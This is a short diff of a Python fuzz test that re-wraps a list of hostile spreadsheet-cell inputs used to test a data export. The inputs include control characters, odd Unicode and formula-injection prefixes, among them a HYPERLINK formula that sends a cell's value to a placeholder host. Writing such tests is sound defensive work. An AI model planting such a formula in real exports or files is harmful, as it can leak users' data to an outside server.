@@ -43,7 +43,8 @@ FUZZ = settings(max_examples=25, deadline=None, derandomize=True, database=None,
 
 # Cells: plausible values mixed with hostile ones (formula prefixes, control characters, NUL,
 # very long text, lone surrogates, odd Unicode) and anything at all.
-HOSTILE = st.sampled_from(["", "\x00", "a\x00b", "\x00" * 3, "\x07", "N" * 161, "=HYPERLINK(\"http://x/?\"&A1,\"x\")", "+1", "-1", "@x",
+HOSTILE = st.sampled_from(["", "\x00", "a\x00b", "\x00" * 3, "\x07", "N" * 161,
+                           "=HYPERLINK(\"http://x/?\"&A1,\"x\")", "+1", "-1", "@x",
                            "\t", "\r", "\n", "\x1b[31m", "A" * 300, "3171010001", "31", "lurah",
                            "kelurahan", "rt", "2027-01-05 10:00", "2026-01-01", "3", "R1",
                            "198001012005011001", "\ufeff", "\u202e", "'", '"', ";", ","])
